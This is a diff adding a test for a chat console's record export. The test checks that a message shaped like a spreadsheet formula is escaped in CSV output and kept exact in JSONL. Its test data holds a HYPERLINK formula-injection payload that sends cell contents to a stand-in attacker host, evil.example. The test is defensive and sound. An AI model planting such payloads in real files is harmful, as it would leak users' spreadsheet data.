@@ -116,3 +116,26 @@ def test_a_label_on_a_record_that_does_not_exist_or_a_bad_label(console):
     bad = operator.post("/api/console/records/1/label", json={"label": "meh"})
     assert bad.status_code == 400 and "A label is one of" in bad.json()["detail"]
     assert operator.get("/api/console/records/987654").status_code == 404
+
+
+def test_a_message_that_looks_like_a_formula_is_exported_as_text_in_csv_and_exact_in_jsonl(console):
+    _, engine, operator, _ = console
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+
+    def seed(session):
+        uma = store.get_user(session, identifier="uma")
+        store.save_message(session, step_id="formula-m", thread_id="uma-t", user_id=uma.id, author=Author.USER,
+                           content=formula)
+        session.add(AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="uma-t",
+                                message_id="formula-m", reply_id="", decision="refuse", rule_ids_json='["IWP.R1"]',
+                                rationale="-1 looks like a number", spec_version="formula-spec", model="fake-chat",
+                                latency_ms=5.0))
+
+    write(engine, seed)
+    for path, params in (("/console/export.csv", {}), ("/api/console/export", {"format": "csv"})):
+        exported = operator.get(path, params={**params, "spec_version": "formula-spec"}).text
+        (row,) = csv.DictReader(io.StringIO(exported))
+        assert (row["request"], row["rationale"]) == ("'" + formula, "'-1 looks like a number"), path
+    (line,) = operator.get("/console/export.jsonl", params={"spec_version": "formula-spec"}).text.splitlines()
+    assert json.loads(line)["request"] == formula
+
